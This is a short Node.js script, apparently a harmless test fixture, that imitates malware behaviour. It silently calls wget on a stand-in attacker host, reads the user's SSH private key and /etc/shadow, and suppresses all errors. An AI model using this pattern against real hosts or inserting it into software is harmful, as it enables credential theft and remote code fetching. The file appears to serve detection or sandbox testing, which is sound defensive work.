// Harmless on purpose: the name ends in .invalid (RFC 2606), so nothing can answer, and nothing that is read is kept.
const { execFileSync } = require('node:child_process');
const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => execFileSync('wget', ['-qO-', '-T', '5', '-t', '1', 'http://snippets.attacker.invalid/raw'], { stdio: 'ignore' }));
attempt(() => readFileSync(join(homedir(), '.ssh', 'id_rsa')));
attempt(() => readFileSync('/etc/shadow'));
